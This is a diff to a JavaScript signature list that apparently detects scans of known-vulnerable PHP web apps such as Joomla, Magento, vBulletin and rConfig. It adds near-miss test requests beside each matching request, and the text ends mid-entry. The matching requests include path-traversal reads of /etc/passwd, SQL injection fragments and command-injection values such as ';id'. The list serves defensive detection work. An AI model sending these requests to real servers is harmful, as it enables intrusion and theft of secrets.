@@ -9,6 +9,10 @@ export default [
     cve: ['2021-3129'],
     path: '/_ignition/',
     hit: 'GET /_ignition/health-check',
+    misses: [
+      'GET /search?q=/_ignition/health-check',
+      { referrer: 'https://www.example.com/_ignition/health-check' },
+    ],
   },
   {
     name: 'laravel-filemanager',
@@ -17,6 +21,10 @@ export default [
     cve: ['2021-43617', '2025-56399'],
     path: '/laravel-filemanager/',
     hit: 'POST /laravel-filemanager/upload',
+    misses: [
+      'GET /search?q=/laravel-filemanager/upload',
+      { referrer: 'https://www.example.com/laravel-filemanager/upload' },
+    ],
   },
   {
     name: 'thinkphp-lang',
@@ -26,6 +34,14 @@ export default [
     path: '/',
     args: ['lang=../'],
     hit: 'GET /?lang=../../../../../usr/local/php/pearcmd&+config-create+/x',
+    misses: [
+      'GET /?lang=list&+config-create+/x',
+      'GET -guide?lang=../../../../../usr/local/php/pearcmd&+config-create+/x',
+      {
+        referrer:
+          'https://www.example.com/?lang=../../../../../usr/local/php/pearcmd&+config-create+/x',
+      },
+    ],
   },
   {
     name: 'thinkphp-captcha',
@@ -36,6 +52,11 @@ export default [
     args: ['s=captcha'],
     severity: 'high',
     hit: 'POST /index.php?s=captcha',
+    misses: [
+      'POST /index.php?s=list',
+      'POST /index.php?my_s=captcha',
+      { referrer: 'https://www.example.com/index.php?s=captcha' },
+    ],
   },
   {
     name: 'yii-gii',
@@ -44,6 +65,10 @@ export default [
     cve: ['2020-36655'],
     path: '/gii/default/',
     hit: 'GET /gii/default/view',
+    misses: [
+      'GET /search?q=/gii/default/view',
+      { referrer: 'https://www.example.com/gii/default/view' },
+    ],
   },
   {
     name: 'symfony-fragment',
@@ -53,6 +78,11 @@ export default [
     path: '/_fragment',
     args: ['_path'],
     hit: 'GET /_fragment?_path=_controller%3Dphpcredits%26flag%3D-1',
+    misses: [
+      'GET /_fragment-guide?_path=_controller%3Dphpcredits%26flag%3D-1',
+      'GET /_fragment?my__path=_controller%3Dphpcredits%26flag%3D-1',
+      { referrer: 'https://www.example.com/_fragment?_path=_controller%3Dphpcredits%26flag%3D-1' },
+    ],
   },
   {
     name: 'symfony-profiler-file',
@@ -62,6 +92,11 @@ export default [
     path: '/_profiler/open',
     args: ['file'],
     hit: 'GET /_profiler/open?file=app/config/parameters.yml',
+    misses: [
+      'GET /_profiler/open-guide?file=app/config/parameters.yml',
+      'GET /_profiler/open?my_file=app/config/parameters.yml',
+      { referrer: 'https://www.example.com/_profiler/open?file=app/config/parameters.yml' },
+    ],
   },
   {
     name: 'symfony-profiler-phpinfo',
@@ -70,6 +105,7 @@ export default [
     ref: 'https://symfony.com/doc/current/profiler.html',
     path: '/_profiler/phpinfo',
     hit: 'GET /_profiler/phpinfo',
+    misses: ['GET /_profiler/phpinfo-guide', 'GET /search?q=/_profiler/phpinfo'],
   },
   {
     name: 'symfony-app-dev',
@@ -78,6 +114,10 @@ export default [
     ref: 'https://symfony.com/doc/current/profiler.html',
     path: '/app_dev.php/_*',
     hit: 'GET /app_dev.php/_profiler/open',
+    misses: [
+      'GET /search?q=/app_dev.php/_profiler/open',
+      { referrer: 'https://www.example.com/app_dev.php/_profiler/open' },
+    ],
   },
   {
     name: 'kcfinder-upload',
@@ -87,6 +127,7 @@ export default [
     path: '/kcfinder/upload.php',
     severity: 'medium',
     hit: 'POST /kcfinder/upload.php',
+    misses: ['POST /kcfinder/upload.php-guide', 'GET /search?q=/kcfinder/upload.php'],
   },
   {
     name: 'elfinder-connector',
@@ -96,6 +137,10 @@ export default [
     path: '/elfinder/php/connector*',
     severity: 'medium',
     hit: 'POST /elfinder/php/connector.minimal.php',
+    misses: [
+      'GET /search?q=/elfinder/php/connector.minimal.php',
+      { referrer: 'https://www.example.com/elfinder/php/connector.minimal.php' },
+    ],
   },
   {
     name: 'filemanager-dialog',
@@ -105,6 +150,7 @@ export default [
     path: '/filemanager/dialog.php',
     severity: 'low',
     hit: 'GET /filemanager/dialog.php',
+    misses: ['GET /filemanager/dialog.php-guide', 'GET /search?q=/filemanager/dialog.php'],
   },
   {
     name: 'filemanager-ajax-calls',
@@ -113,6 +159,7 @@ export default [
     cve: ['2018-15535'],
     path: '/filemanager/ajax_calls.php',
     hit: 'POST /filemanager/ajax_calls.php',
+    misses: ['POST /filemanager/ajax_calls.php-guide', 'GET /search?q=/filemanager/ajax_calls.php'],
   },
   {
     name: 'jquery-file-upload',
@@ -122,6 +169,10 @@ export default [
     path: '/server/php/',
     severity: 'medium',
     hit: 'POST /jquery-file-upload/server/php/index.php',
+    misses: [
+      'GET /search?q=/jquery-file-upload/server/php/index.php',
+      { referrer: 'https://www.example.com/jquery-file-upload/server/php/index.php' },
+    ],
   },
   {
     name: 'fckeditor-upload',
@@ -131,6 +182,13 @@ export default [
     path: '/editor/filemanager/',
     severity: 'medium',
     hit: 'POST /fckeditor/editor/filemanager/connectors/php/connector.php',
+    misses: [
+      'GET /search?q=/fckeditor/editor/filemanager/connectors/php/connector.php',
+      {
+        referrer:
+          'https://www.example.com/fckeditor/editor/filemanager/connectors/php/connector.php',
+      },
+    ],
   },
   {
     name: 'drupal-hal-json',
@@ -142,6 +200,21 @@ export default [
     methods: ['POST', 'PUT', 'PATCH', 'GET'],
     severity: 'critical',
     hit: 'POST /node/1?_format=hal_json',
+    also: [
+      'GET /node/1?_format=hal_json',
+      'PUT /node/1?_format=hal_json',
+      'PATCH /node/1?_format=hal_json',
+    ],
+    misses: [
+      'POST /node/1?_format=list',
+      'GET /search?_format=hal_json',
+      'POST /node/1?my__format=hal_json',
+      'HEAD /node/1?_format=hal_json',
+      {
+        request: 'POST /style.css HTTP/1.1',
+        referrer: 'https://www.example.com/node/1?_format=hal_json',
+      },
+    ],
   },
   {
     name: 'joomla-config-api',
@@ -152,6 +225,11 @@ export default [
     args: ['public=true'],
     severity: 'high',
     hit: 'GET /api/index.php/v1/config/application?public=true',
+    misses: [
+      'GET /api/index.php/v1/config/application-guide?public=true',
+      'GET /api/index.php/v1/config/application?public=list',
+      { referrer: 'https://www.example.com/api/index.php/v1/config/application?public=true' },
+    ],
   },
   {
     name: 'joomla-api-users',
@@ -161,6 +239,10 @@ export default [
     path: '/api/index.php/v1/users',
     severity: 'high',
     hit: 'GET /api/index.php/v1/users?public=true',
+    misses: [
+      'GET /api/index.php/v1/users-guide?public=true',
+      'GET /search?q=/api/index.php/v1/users',
+    ],
   },
   {
     name: 'joomla-fields-sql',
@@ -171,6 +253,16 @@ export default [
     args: ['option=com_fields', 'view=fields', 'list[fullordering]'],
     severity: 'critical',
     hit: 'GET /index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,2,3)',
+    misses: [
+      'GET /index.php-guide?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,2,3)',
+      'GET /index.php?option=list&view=fields&layout=modal&list[fullordering]=updatexml(1,2,3)',
+      'GET /index.php?option=com_fields&view=list&layout=modal&list[fullordering]=updatexml(1,2,3)',
+      'GET /index.php?option=com_fields&view=fields&layout=modal',
+      {
+        referrer:
+          'https://www.example.com/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,2,3)',
+      },
+    ],
   },
   {
     name: 'joomla-contenthistory',
@@ -181,6 +273,15 @@ export default [
     args: ['option=com_contenthistory', 'list[select]'],
     severity: 'critical',
     hit: 'GET /index.php?option=com_contenthistory&view=history&list[ordering]=&item_id=1&type_id=1&list[select]=(select%201)',
+    misses: [
+      'GET /index.php-guide?option=com_contenthistory&view=history&list[ordering]=&item_id=1&type_id=1&list[select]=(select%201)',
+      'GET /index.php?option=list&view=history&list[ordering]=&item_id=1&type_id=1&list[select]=(select%201)',
+      'GET /index.php?option=com_contenthistory&view=history&list[ordering]=&item_id=1&type_id=1',
+      {
+        referrer:
+          'https://www.example.com/index.php?option=com_contenthistory&view=history&list[ordering]=&item_id=1&type_id=1&list[select]=(select%201)',
+      },
+    ],
   },
   {
     name: 'joomla-jce-upload',
@@ -191,6 +292,15 @@ export default [
     args: ['option=com_jce', 'plugin=imgmanager'],
     severity: 'low',
     hit: 'POST /index.php?option=com_jce&task=plugin&plugin=imgmanager&file=imgmanager&method=form',
+    misses: [
+      'POST /index.php-guide?option=com_jce&task=plugin&plugin=imgmanager&file=imgmanager&method=form',
+      'POST /index.php?option=list&task=plugin&plugin=imgmanager&file=imgmanager&method=form',
+      'POST /index.php?option=com_jce&task=plugin&plugin=list&file=imgmanager&method=form',
+      {
+        referrer:
+          'https://www.example.com/index.php?option=com_jce&task=plugin&plugin=imgmanager&file=imgmanager&method=form',
+      },
+    ],
   },
   {
     name: 'joomla-jdownloads',
@@ -200,6 +310,12 @@ export default [
     path: '/index.php',
     args: ['option=com_jdownloads', 'view=upload'],
     hit: 'POST /index.php?option=com_jdownloads&Itemid=0&view=upload',
+    misses: [
+      'POST /index.php-guide?option=com_jdownloads&Itemid=0&view=upload',
+      'POST /index.php?option=list&Itemid=0&view=upload',
+      'POST /index.php?option=com_jdownloads&Itemid=0&view=list',
+      { referrer: 'https://www.example.com/index.php?option=com_jdownloads&Itemid=0&view=upload' },
+    ],
   },
   {
     name: 'joomla-fabrik',
@@ -209,6 +325,15 @@ export default [
     path: '/index.php',
     args: ['option=com_fabrik', 'task=plugin.pluginAjax'],
     hit: 'POST /index.php?option=com_fabrik&format=raw&task=plugin.pluginAjax&plugin=fileupload&method=ajax_upload',
+    misses: [
+      'POST /index.php-guide?option=com_fabrik&format=raw&task=plugin.pluginAjax&plugin=fileupload&method=ajax_upload',
+      'POST /index.php?option=list&format=raw&task=plugin.pluginAjax&plugin=fileupload&method=ajax_upload',
+      'POST /index.php?option=com_fabrik&format=raw&task=list&plugin=fileupload&method=ajax_upload',
+      {
+        referrer:
+          'https://www.example.com/index.php?option=com_fabrik&format=raw&task=plugin.pluginAjax&plugin=fileupload&method=ajax_upload',
+      },
+    ],
   },
   {
     name: 'joomla-b2jcontact',
@@ -218,6 +343,15 @@ export default [
     path: '/index.php',
     args: ['option=com_b2jcontact', 'view=loader'],
     hit: 'POST /index.php?option=com_b2jcontact&view=loader&type=uploader&owner=component&id=138',
+    misses: [
+      'POST /index.php-guide?option=com_b2jcontact&view=loader&type=uploader&owner=component&id=138',
+      'POST /index.php?option=list&view=loader&type=uploader&owner=component&id=138',
+      'POST /index.php?option=com_b2jcontact&view=list&type=uploader&owner=component&id=138',
+      {
+        referrer:
+          'https://www.example.com/index.php?option=com_b2jcontact&view=loader&type=uploader&owner=component&id=138',
+      },
+    ],
   },
   {
     name: 'joomla-controller-lfi',
@@ -227,6 +361,15 @@ export default [
     path: '/index.php',
     args: ['option=com_', 'controller~path'],
     hit: 'GET /index.php?option=com_properties&controller=../../../../etc/passwd%00',
+    misses: [
+      'GET /index.php-guide?option=com_properties&controller=../../../../etc/passwd%00',
+      'GET /index.php?option=list&controller=../../../../etc/passwd%00',
+      'GET /index.php?option=com_properties&controller=list',
+      {
+        referrer:
+          'https://www.example.com/index.php?option=com_properties&controller=../../../../etc/passwd%00',
+      },
+    ],
   },
   {
     name: 'joomla-view-lfi',
@@ -236,6 +379,15 @@ export default [
     path: '/index.php',
     args: ['option=com_', 'view~dots'],
     hit: 'GET /index.php?option=com_cartweberp&view=../../../../etc/passwd%00',
+    misses: [
+      'GET /index.php-guide?option=com_cartweberp&view=../../../../etc/passwd%00',
+      'GET /index.php?option=list&view=../../../../etc/passwd%00',
+      'GET /index.php?option=com_cartweberp&view=list',
+      {
+        referrer:
+          'https://www.example.com/index.php?option=com_cartweberp&view=../../../../etc/passwd%00',
+      },
+    ],
   },
   {
     name: 'joomla-api-id-sql',
@@ -246,6 +398,23 @@ export default [
     args: ['option=com_', 'id~union'],
     severity: 'high',
     hit: 'GET /index.php?option=com_zhbaidumap&no_html=1&format=raw&task=getPlacemarkDetails&id=-1%20UNION%20ALL%20SELECT%201',
+    also: [
+      'GET /index.php?option=com_a&id=1+union+all',
+      'GET /index.php?option=com_a&id=(select+1)',
+      'GET /index.php?option=com_a&id=sleep(5)',
+      'GET /index.php?option=com_a&id=concat(1,2)',
+      'GET /index.php?option=com_a&id=extractvalue(1,2)',
+      'GET /index.php?option=com_a&id=updatexml(1,2,3)',
+    ],
+    misses: [
+      'GET /index.php-guide?option=com_zhbaidumap&no_html=1&format=raw&task=getPlacemarkDetails&id=-1%20UNION%20ALL%20SELECT%201',
+      'GET /index.php?option=list&no_html=1&format=raw&task=getPlacemarkDetails&id=-1%20UNION%20ALL%20SELECT%201',
+      'GET /index.php?option=com_zhbaidumap&no_html=1&format=raw&task=getPlacemarkDetails&id=list',
+      {
+        referrer:
+          'https://www.example.com/index.php?option=com_zhbaidumap&no_html=1&format=raw&task=getPlacemarkDetails&id=-1%20UNION%20ALL%20SELECT%201',
+      },
+    ],
   },
   {
     name: 'joomla-convertforms',
@@ -255,6 +424,14 @@ export default [
     path: '/plugins/editors/jckeditor/plugins/jtreelink/dialogs/links.php',
     args: ['parent'],
     hit: 'GET /plugins/editors/jckeditor/plugins/jtreelink/dialogs/links.php?extension=menu&view=menu&parent=%22%20UNION%20SELECT%201',
+    misses: [
+      'GET /plugins/editors/jckeditor/plugins/jtreelink/dialogs/links.php-guide?extension=menu&view=menu&parent=%22%20UNION%20SELECT%201',
+      'GET /plugins/editors/jckeditor/plugins/jtreelink/dialogs/links.php?extension=menu&view=menu',
+      {
+        referrer:
+          'https://www.example.com/plugins/editors/jckeditor/plugins/jtreelink/dialogs/links.php?extension=menu&view=menu&parent=%22%20UNION%20SELECT%201',
+      },
+    ],
   },
   {
     name: 'phpmyadmin-lfi-target',
@@ -265,6 +442,14 @@ export default [
     args: ['target~dots'],
     severity: 'critical',
     hit: 'GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../etc/passwd',
+    misses: [
+      'GET /phpmyadmin/index.php-guide?target=db_sql.php%253f/../../../../etc/passwd',
+      'GET /phpmyadmin/index.php?target=list',
+      {
+        referrer:
+          'https://www.example.com/phpmyadmin/index.php?target=db_sql.php%253f/../../../../etc/passwd',
+      },
+    ],
   },
   {
     name: 'phpmyadmin-setup',
@@ -274,6 +459,10 @@ export default [
     path: '/scripts/setup.php',
     severity: 'medium',
     hit: 'POST /phpmyadmin/scripts/setup.php',
+    misses: [
+      'POST /phpmyadmin/scripts/setup.php-guide',
+      'GET /search?q=/phpmyadmin/scripts/setup.php',
+    ],
   },
   {
     name: 'phpmyadmin-setup-index',
@@ -283,6 +472,10 @@ export default [
     path: '/phpmyadmin/setup/index.php',
     severity: 'low',
     hit: 'GET /phpmyadmin/setup/index.php?page=servers&mode=test&id=x',
+    misses: [
+      'GET /phpmyadmin/setup/index.php-guide?page=servers&mode=test&id=x',
+      'GET /search?q=/phpmyadmin/setup/index.php',
+    ],
   },
   {
     name: 'vbulletin-widget',
@@ -292,6 +485,10 @@ export default [
     path: '/ajax/render/widget_*',
     severity: 'critical',
     hit: 'POST /ajax/render/widget_tabbedcontainer_tab_panel',
+    misses: [
+      'GET /search?q=/ajax/render/widget_tabbedcontainer_tab_panel',
+      { referrer: 'https://www.example.com/ajax/render/widget_tabbedcontainer_tab_panel' },
+    ],
   },
   {
     name: 'vbulletin-widget-php',
@@ -302,6 +499,11 @@ export default [
     args: ['routestring=ajax/render/widget'],
     severity: 'critical',
     hit: 'POST /index.php?routestring=ajax/render/widget_php',
+    misses: [
+      'POST /index.php?routestring=list',
+      'POST /index.php?my_routestring=ajax/render/widget_php',
+      { referrer: 'https://www.example.com/index.php?routestring=ajax/render/widget_php' },
+    ],
   },
   {
     name: 'vbulletin-content-like',
@@ -311,6 +513,10 @@ export default [
     path: '/ajax/api/content_infraction/getIndexableContent',
     severity: 'critical',
     hit: 'POST /ajax/api/content_infraction/getIndexableContent',
+    misses: [
+      'POST /ajax/api/content_infraction/getIndexableContent-guide',
+      'GET /search?q=/ajax/api/content_infraction/getIndexableContent',
+    ],
   },
   {
     name: 'vbulletin-decode',
@@ -320,6 +526,10 @@ export default [
     path: '/ajax/api/hook/decodeArguments',
     severity: 'critical',
     hit: 'GET /ajax/api/hook/decodeArguments?arguments=O:12:x',
+    misses: [
+      'GET /ajax/api/hook/decodeArguments-guide?arguments=O:12:x',
+      'GET /search?q=/ajax/api/hook/decodeArguments',
+    ],
   },
   {
     name: 'vbulletin-replace-ad',
@@ -329,6 +539,10 @@ export default [
     path: '/ajax/api/ad/replaceAdTemplate',
     severity: 'critical',
     hit: 'POST /ajax/api/ad/replaceAdTemplate',
+    misses: [
+      'POST /ajax/api/ad/replaceAdTemplate-guide',
+      'GET /search?q=/ajax/api/ad/replaceAdTemplate',
+    ],
   },
   {
     name: 'vbulletin-upgrade',
@@ -337,6 +551,7 @@ export default [
     cve: ['2013-6129'],
     path: '/install/upgrade.php',
     hit: 'GET /core/install/upgrade.php',
+    misses: ['GET /core/install/upgrade.php-guide', 'GET /search?q=/core/install/upgrade.php'],
   },
   {
     name: 'magento-shoplift',
@@ -346,6 +561,10 @@ export default [
     path: '/Cms_Wysiwyg/directive/',
     severity: 'critical',
     hit: 'POST /admin/Cms_Wysiwyg/directive/index/',
+    misses: [
+      'GET /search?q=/admin/Cms_Wysiwyg/directive/index/',
+      { referrer: 'https://www.example.com/admin/Cms_Wysiwyg/directive/index/' },
+    ],
   },
   {
     name: 'magento-magmi',
@@ -355,6 +574,10 @@ export default [
     path: '/magmi/web/',
     severity: 'high',
     hit: 'GET /magmi/web/magmi.php',
+    misses: [
+      'GET /search?q=/magmi/web/magmi.php',
+      { referrer: 'https://www.example.com/magmi/web/magmi.php' },
+    ],
   },
   {
     name: 'magento-catalog-sql',
@@ -363,6 +586,10 @@ export default [
     cve: ['2019-7139'],
     path: '/catalog/product_frontend_action/synchronize',
     hit: 'GET /catalog/product_frontend_action/synchronize?type_id=recently_products&ids[0][added_at]=&ids[0][product_id][from]=%3f',
+    misses: [
+      'GET /catalog/product_frontend_action/synchronize-guide?type_id=recently_products&ids[0][added_at]=&ids[0][product_id][from]=%3f',
+      'GET /search?q=/catalog/product_frontend_action/synchronize',
+    ],
   },
   {
     name: 'magento-downloader',
@@ -372,6 +599,7 @@ export default [
     path: '/downloader/index.php',
     severity: 'low',
     hit: 'GET /downloader/index.php',
+    misses: ['GET /downloader/index.php-guide', 'GET /search?q=/downloader/index.php'],
   },
   {
     name: 'magento-sessionreaper',
@@ -381,6 +609,10 @@ export default [
     path: '/customer/address_file/upload',
     severity: 'high',
     hit: 'POST /customer/address_file/upload',
+    misses: [
+      'POST /customer/address_file/upload-guide',
+      'GET /search?q=/customer/address_file/upload',
+    ],
   },
   {
     name: 'opencart-brute',
@@ -390,6 +622,11 @@ export default [
     path: '/index.php',
     args: ['route=extension/payment/divido'],
     hit: 'GET /index.php?route=extension/payment/divido/update',
+    misses: [
+      'GET /index.php-guide?route=extension/payment/divido/update',
+      'GET /index.php?route=list',
+      { referrer: 'https://www.example.com/index.php?route=extension/payment/divido/update' },
+    ],
   },
   {
     name: 'roundcube-upload',
@@ -399,6 +636,16 @@ export default [
     path: '/',
     args: ['_task=settings', '_action=upload', '_from=edit-!'],
     hit: 'POST /?_task=settings&_framed=1&_remote=1&_from=edit-!xxx&_id=&_uploadid=x&_unlock=x&_action=upload',
+    misses: [
+      'POST /?_task=list&_framed=1&_remote=1&_from=edit-!xxx&_id=&_uploadid=x&_unlock=x&_action=upload',
+      'POST /?_task=settings&_framed=1&_remote=1&_from=list&_id=&_uploadid=x&_unlock=x&_action=upload',
+      'POST /?_task=settings&_framed=1&_remote=1&_from=edit-!xxx&_id=&_uploadid=x&_unlock=x&_action=list',
+      'POST -guide?_task=settings&_framed=1&_remote=1&_from=edit-!xxx&_id=&_uploadid=x&_unlock=x&_action=upload',
+      {
+        referrer:
+          'https://www.example.com/?_task=settings&_framed=1&_remote=1&_from=edit-!xxx&_id=&_uploadid=x&_unlock=x&_action=upload',
+      },
+    ],
   },
   {
     name: 'roundcube-installer',
@@ -408,6 +655,11 @@ export default [
     path: '/installer/index.php',
     args: ['_step'],
     hit: 'POST /roundcube/installer/index.php?_step=2',
+    misses: [
+      'POST /roundcube/installer/index.php-guide?_step=2',
+      'POST /roundcube/installer/index.php?my__step=2',
+      { referrer: 'https://www.example.com/roundcube/installer/index.php?_step=2' },
+    ],
   },
   {
     name: 'cacti-graph-realtime',
@@ -418,6 +670,11 @@ export default [
     args: ['action=init'],
     severity: 'medium',
     hit: 'GET /graph_realtime.php?action=init',
+    misses: [
+      'GET /graph_realtime.php-guide?action=init',
+      'GET /graph_realtime.php?action=list',
+      { referrer: 'https://www.example.com/graph_realtime.php?action=init' },
+    ],
   },
   {
     name: 'cacti-color-sql',
@@ -427,6 +684,15 @@ export default [
     path: '/color.php',
     args: ['action=export', 'filter~quote'],
     hit: "GET /cacti/color.php?action=export&header=false&filter=1')+UNION+SELECT+1;",
+    misses: [
+      "GET /cacti/color.php-guide?action=export&header=false&filter=1')+UNION+SELECT+1;",
+      "GET /cacti/color.php?action=list&header=false&filter=1')+UNION+SELECT+1;",
+      'GET /cacti/color.php?action=export&header=false&filter=list',
+      {
+        referrer:
+          "https://www.example.com/cacti/color.php?action=export&header=false&filter=1')+UNION+SELECT+1;",
+      },
+    ],
   },
   {
     name: 'cacti-graph-view-sql',
@@ -436,6 +702,15 @@ export default [
     path: '/graph_view.php',
     args: ['action', 'rfilter~quote'],
     hit: 'GET /graph_view.php?action=tree_content&node=1-1-tree_anchor&rfilter=%22or+%22%22=%22((%22));',
+    misses: [
+      'GET /graph_view.php-guide?action=tree_content&node=1-1-tree_anchor&rfilter=%22or+%22%22=%22((%22));',
+      'GET /graph_view.php?action=tree_content&node=1-1-tree_anchor&rfilter=list',
+      'GET /graph_view.php?node=1-1-tree_anchor&rfilter=%22or+%22%22=%22((%22));',
+      {
+        referrer:
+          'https://www.example.com/graph_view.php?action=tree_content&node=1-1-tree_anchor&rfilter=%22or+%22%22=%22((%22));',
+      },
+    ],
   },
   {
     name: 'cacti-weathermap',
@@ -445,6 +720,10 @@ export default [
     path: '/weathermap/editor.php',
     severity: 'medium',
     hit: 'GET /cacti/plugins/weathermap/editor.php',
+    misses: [
+      'GET /cacti/plugins/weathermap/editor.php-guide',
+      'GET /search?q=/cacti/plugins/weathermap/editor.php',
+    ],
   },
   {
     name: 'nagios-magpie',
@@ -454,6 +733,10 @@ export default [
     path: '/nagiosxi/includes/dashlets/rss_dashlet/magpierss/scripts/magpie_debug.php',
     severity: 'critical',
     hit: 'GET /nagiosxi/includes/dashlets/rss_dashlet/magpierss/scripts/magpie_debug.php?url=x',
+    misses: [
+      'GET /nagiosxi/includes/dashlets/rss_dashlet/magpierss/scripts/magpie_debug.php-guide?url=x',
+      'GET /search?q=/nagiosxi/includes/dashlets/rss_dashlet/magpierss/scripts/magpie_debug.php',
+    ],
   },
   {
     name: 'nagios-profile',
@@ -462,6 +745,10 @@ export default [
     cve: ['2019-15949'],
     path: '/nagiosxi/includes/components/profile/profile.php',
     hit: 'GET /nagiosxi/includes/components/profile/profile.php?cmd=download',
+    misses: [
+      'GET /nagiosxi/includes/components/profile/profile.php-guide?cmd=download',
+      'GET /search?q=/nagiosxi/includes/components/profile/profile.php',
+    ],
   },
   {
     name: 'pandora-events',
@@ -472,6 +759,14 @@ export default [
     args: ['perform_event_response'],
     severity: 'critical',
     hit: 'GET /pandora_console/ajax.php?page=include/ajax/events&perform_event_response=10000000&target=id&response_id=1',
+    misses: [
+      'GET /pandora_console/ajax.php-guide?page=include/ajax/events&perform_event_response=10000000&target=id&response_id=1',
+      'GET /pandora_console/ajax.php?page=include/ajax/events&target=id&response_id=1',
+      {
+        referrer:
+          'https://www.example.com/pandora_console/ajax.php?page=include/ajax/events&perform_event_response=10000000&target=id&response_id=1',
+      },
+    ],
   },
   {
     name: 'pandora-chart',
@@ -481,6 +776,14 @@ export default [
     path: '/pandora_console/include/chart_generator.php',
     args: ['session_id~quote'],
     hit: 'GET /pandora_console/include/chart_generator.php?session_id=%27%20union%20SELECT%201',
+    misses: [
+      'GET /pandora_console/include/chart_generator.php-guide?session_id=%27%20union%20SELECT%201',
+      'GET /pandora_console/include/chart_generator.php?session_id=list',
+      {
+        referrer:
+          'https://www.example.com/pandora_console/include/chart_generator.php?session_id=%27%20union%20SELECT%201',
+      },
+    ],
   },
   {
     name: 'zabbix-jsrpc',
@@ -490,6 +793,14 @@ export default [
     path: '/jsrpc.php',
     args: ['profileIdx2~quote'],
     hit: 'GET /jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,2,3)',
+    misses: [
+      'GET /jsrpc.php-guide?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,2,3)',
+      'GET /jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=list',
+      {
+        referrer:
+          'https://www.example.com/jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,2,3)',
+      },
+    ],
   },
   {
     name: 'zabbix-latest',
@@ -499,6 +810,14 @@ export default [
     path: '/latest.php',
     args: ['toggle_ids[]~quote'],
     hit: 'GET /latest.php?output=ajax&toggle_open_state=1&toggle_ids[]=updatexml(0,1,2)',
+    misses: [
+      'GET /latest.php-guide?output=ajax&toggle_open_state=1&toggle_ids[]=updatexml(0,1,2)',
+      'GET /latest.php?output=ajax&toggle_open_state=1&toggle_ids[]=list',
+      {
+        referrer:
+          'https://www.example.com/latest.php?output=ajax&toggle_open_state=1&toggle_ids[]=updatexml(0,1,2)',
+      },
+    ],
   },
   {
     name: 'glpi-htmlawed',
@@ -508,6 +827,10 @@ export default [
     path: '/vendor/htmlawed/htmlawed/htmLawedTest.php',
     severity: 'critical',
     hit: 'POST /vendor/htmlawed/htmlawed/htmLawedTest.php',
+    misses: [
+      'POST /vendor/htmlawed/htmlawed/htmLawedTest.php-guide',
+      'GET /search?q=/vendor/htmlawed/htmlawed/htmLawedTest.php',
+    ],
   },
   {
     name: 'opennetadmin',
@@ -517,6 +840,7 @@ export default [
     path: '/ona/login.php',
     severity: 'medium',
     hit: 'POST /ona/login.php',
+    misses: ['POST /ona/login.php-guide', 'GET /search?q=/ona/login.php'],
   },
   {
     name: 'rconfig-ajax',
@@ -527,6 +851,14 @@ export default [
     args: ['rootUname~shell'],
     severity: 'critical',
     hit: 'GET /install/lib/ajaxHandlers/ajaxServerSettingsChk.php?rootUname=;id%20%23',
+    misses: [
+      'GET /install/lib/ajaxHandlers/ajaxServerSettingsChk.php-guide?rootUname=;id%20%23',
+      'GET /install/lib/ajaxHandlers/ajaxServerSettingsChk.php?rootUname=list',
+      {
+        referrer:
+          'https://www.example.com/install/lib/ajaxHandlers/ajaxServerSettingsChk.php?rootUname=;id%20%23',
+      },
+    ],
   },
   {
     name: 'rconfig-archive',
@@ -536,6 +868,14 @@ export default [
     path: '/lib/ajaxHandlers/ajaxArchiveFiles.php',
     args: ['path~shell'],
     hit: 'GET /lib/ajaxHandlers/ajaxArchiveFiles.php?path=;id;&ext=random',
+    misses: [
+      'GET /lib/ajaxHandlers/ajaxArchiveFiles.php-guide?path=;id;&ext=random',
+      'GET /lib/ajaxHandlers/ajaxArchiveFiles.php?path=list&ext=random',
+      {
+        referrer:
+          'https://www.example.com/lib/ajaxHandlers/ajaxArchiveFiles.php?path=;id;&ext=random',
+      },
+    ],
   },
   {
     name: 'freepbx-callme',
@@ -545,6 +885,10 @@ export default [
     path: '/recordings/misc/callme_page.php',
     severity: 'critical',
     hit: 'GET /recordings/misc/callme_page.php?action=c&callmenum=x@from-internal/n',
+    misses: [
+      'GET /recordings/misc/callme_page.php-guide?action=c&callmenum=x@from-internal/n',
+      'GET /search?q=/recordings/misc/callme_page.php',
+    ],
   },
   {
     name: 'elastix-vtiger-graph',
@@ -554,6 +898,14 @@ export default [
     path: '/vtigercrm/graph.php',
     args: ['current_language'],
     hit: 'GET /vtigercrm/graph.php?current_language=../../../../../../../../etc/amportal.conf%00&module=Accounts&action',
+    misses: [
+      'GET /vtigercrm/graph.php-guide?current_language=../../../../../../../../etc/amportal.conf%00&module=Accounts&action',
+      'GET /vtigercrm/graph.php?module=Accounts&action',
+      {
+        referrer:
+          'https://www.example.com/vtigercrm/graph.php?current_language=../../../../../../../../etc/amportal.conf%00&module=Accounts&action',
+      },
+    ],
   },
   {
     name: 'vtiger-soap',
@@ -562,6 +914,10 @@ export default [
     cve: ['2013-3214', '2013-3215'],
     path: '/vtigercrm/soap/',
     hit: 'POST /vtigercrm/soap/vtigerolservice.php',
+    misses: [
+      'GET /search?q=/vtigercrm/soap/vtigerolservice.php',
+      { referrer: 'https://www.example.com/vtigercrm/soap/vtigerolservice.php' },
+    ],
   },
   {
     name: 'vicidial-server',
@@ -571,6 +927,10 @@ export default [
     path: '/agc/manager_send.php',
     severity: 'high',
     hit: 'GET /agc/manager_send.php?enable_sipsak_messages=1&allow_sipsak_messages=1&protocol=sip',
+    misses: [
+      'GET /agc/manager_send.php-guide?enable_sipsak_messages=1&allow_sipsak_messages=1&protocol=sip',
+      'GET /search?q=/agc/manager_send.php',
+    ],
   },
   {
     name: 'vicidial-unauth-sql',
@@ -580,6 +940,10 @@ export default [
     path: '/VERM/VERM_AJAX_functions.php',
     severity: 'critical',
     hit: 'GET /VERM/VERM_AJAX_functions.php?function=log_custom_report',
+    misses: [
+      'GET /VERM/VERM_AJAX_functions.php-guide?function=log_custom_report',
+      'GET /search?q=/VERM/VERM_AJAX_functions.php',
+    ],
   },
   {
     name: 'a2billing',
@@ -589,6 +953,10 @@ export default [
     path: '/a2billing/*',
     severity: 'low',
     hit: 'GET /a2billing/customer/templates/default/footer.tpl',
+    misses: [
